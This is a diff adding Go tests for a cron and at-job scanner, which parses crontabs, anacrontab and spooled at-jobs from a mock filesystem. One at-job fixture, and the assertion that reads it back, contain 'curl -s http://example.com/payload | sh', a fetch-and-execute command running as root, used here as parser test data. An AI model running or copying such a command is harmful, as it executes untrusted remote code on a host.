@@ -0,0 +1,142 @@
+package scanners
+
+import (
+	"context"
+	"os"
+	"path/filepath"
+	"testing"
+	"testing/fstest"
+
+	"github.com/supabase/supascan/internal/spec"
+)
+
+const testCrontab = `# /etc/crontab: system-wide crontab
+SHELL=/bin/sh
+PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
+
+17 *	* * *	root    cd / && run-parts --report /etc/cron.hourly
+25 6	* * *	root	test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
+@reboot postgres /usr/local/bin/warm-cache
+@sometimes root /bin/true
+* * * * *
+`
+
+const testAtJob = `#!/bin/sh
+# atrun uid=0 gid=0
+# mail root 0
+umask 22
+PATH=/usr/bin:/bin; export PATH
+cd /root || {
+	 echo 'Execution directory inaccessible' >&2
+	 exit 1
+}
+${SHELL:-/bin/sh} << 'marcinDELIMITER2b0f7b0d'
+curl -s http://example.com/payload | sh
+marcinDELIMITER2b0f7b0d
+`
+
+func testCronFS() fstest.MapFS {
+	return fstest.MapFS{
+		"etc/crontab":                          {Data: []byte(testCrontab)},
+		"etc/cron.d/wal-g":                     {Data: []byte("MAILTO=\"\"\n0 3 * * * postgres  /usr/local/bin/wal-g backup-push  /data\n")},
+		"etc/cron.d/old.dpkg-old":              {Data: []byte("0 3 * * * root /bin/false\n")},
+		"etc/cron.daily/logrotate":             {Data: []byte("#!/bin/sh\n"), Mode: 0755},
+		"etc/cron.daily/not-executable":        {Data: []byte("#!/bin/sh\n"), Mode: 0644},
+		"etc/cron.daily/.placeholder":          {Data: []byte("")},
+		"etc/cron.weekly/man-db":               {Data: []byte("#!/bin/sh\n"), Mode: 0755},
+		"etc/anacrontab":                       {Data: []byte("START_HOURS_RANGE=3-22\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n@monthly 15 cron.monthly run-parts --report /etc/cron.monthly\nbroken\n")},
+		"var/spool/cron/crontabs/ubuntu":       {Data: []byte("# DO NOT EDIT THIS FILE\n*/5 * * * * /home/ubuntu/bin/sync.sh > /dev/null 2>&1\n")},
+		"var/spool/cron/atjobs/a0000101b4c728": {Data: []byte(testAtJob)},
+		"var/spool/cron/atjobs/.SEQ":           {Data: []byte("1\n")},
+	}
+}
+
+func TestCronScanner_Jobs(t *testing.T) {
+	scanner := &CronScanner{}
+	writer := spec.NewTestWriter()
+
+	stats, err := scanner.Scan(context.Background(), ScanOptions{
+		Writer: writer,
+		Logger: testLogger(),
+		RootFS: testCronFS(),
+	})
+	if err != nil {
+		t.Fatalf("Scan failed: %v", err)
+	}
+
+	expected := []spec.CronJobSpec{
+		{Schedule: "17 * * * *", User: "root", Command: "cd / && run-parts --report /etc/cron.hourly", Source: "/etc/crontab"},
+		{Schedule: "25 6 * * *", User: "root", Command: "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }", Source: "/etc/crontab"},
+		{Schedule: "@reboot", User: "postgres", Command: "/usr/local/bin/warm-cache", Source: "/etc/crontab"},
+		{Schedule: "0 3 * * *", User: "postgres", Command: "/usr/local/bin/wal-g backup-push  /data", Source: "/etc/cron.d/wal-g"},
+		{Schedule: "*/5 * * * *", User: "ubuntu", Command: "/home/ubuntu/bin/sync.sh > /dev/null 2>&1", Source: "/var/spool/cron/crontabs/ubuntu"},
+		{Schedule: "@daily", User: "root", Command: "/etc/cron.daily/logrotate", Source: "/etc/cron.daily"},
+		{Schedule: "@weekly", User: "root", Command: "/etc/cron.weekly/man-db", Source: "/etc/cron.weekly"},
+		{Schedule: "1 5", User: "root", Command: "run-parts --report /etc/cron.daily", Source: "/etc/anacrontab"},
+		{Schedule: "@monthly 15", User: "root", Command: "run-parts --report /etc/cron.monthly", Source: "/etc/anacrontab"},
+	}
+
+	results := writer.GetCronJobResults()
+	if len(results) != len(expected)+1 {
+		t.Errorf("Expected %d jobs, got %d: %v", len(expected)+1, len(results), results)
+	}
+	for _, want := range expected {
+		want.ID = spec.CronJobID(want.Source, want.Schedule, want.Command)
+		if got, ok := results[want.ID]; !ok || got != want {
+			t.Errorf("Job %q = %+v, want %+v", want.ID, got, want)
+		}
+	}
+
+	at := results["/var/spool/cron/atjobs/a0000101b4c728"]
+	if at.User != "root" || at.Command != "curl -s http://example.com/payload | sh" || at.Schedule != "2024-06-04 06:00 UTC" {
+		t.Errorf("Unexpected at job: %+v", at)
+	}
+
+	// The unknown @sometimes schedule, the line without a command and the
+	// anacron line without fields
+	if len(stats.Warnings) != 3 {
+		t.Errorf("Expected 3 warnings, got %v", stats.Warnings)
+	}
+}
+
+func TestCronScanner_NoCron(t *testing.T) {
+	writer := spec.NewTestWriter()
+	stats, err := (&CronScanner{rootPath: t.TempDir()}).Scan(context.Background(), ScanOptions{
+		Writer: writer,
+		Logger: testLogger(),
+	})
+	if err != nil {
+		t.Fatalf("Scan failed: %v", err)
+	}
+	if n := writer.GetResourceCount(); n != 0 || len(stats.Warnings) != 0 {
+		t.Errorf("Expected no jobs and no warnings, got %d jobs and %v", n, stats.Warnings)
+	}
+}
+
+func TestCronScanner_LinkedDir(t *testing.T) {
+	root := t.TempDir()
+	os.MkdirAll(filepath.Join(root, "etc", "cron.d", "real"), 0755)
+	os.WriteFile(filepath.Join(root, "etc", "cron.d", "wal-g"), []byte("0 3 * * * postgres /usr/local/bin/wal-g backup-push\n"), 0644)
+	if err := os.Symlink("real", filepath.Join(root, "etc", "cron.d", "linked")); err != nil {
+		t.Fatal(err)
+	}
+
+	writer := spec.NewTestWriter()
+	_, err := (&CronScanner{rootPath: root}).Scan(context.Background(), ScanOptions{
+		Writer: writer,
+		Logger: testLogger(),
+	})
+	if err != nil {
+		t.Fatalf("Scan failed: %v", err)
+	}
+	if n := len(writer.GetCronJobResults()); n != 1 {
+		t.Errorf("Expected the job from wal-g only, got %d", n)
+	}
+}
+
+func TestParseAtJob_OldFormat(t *testing.T) {
+	user, command := parseAtJob("#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail ubuntu 0\numask 2\ncd /home/ubuntu || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n/home/ubuntu/bin/report.sh\n")
+	if user != "ubuntu" || command != "/home/ubuntu/bin/report.sh" {
+		t.Errorf("parseAtJob() = %q, %q", user, command)
+	}
+}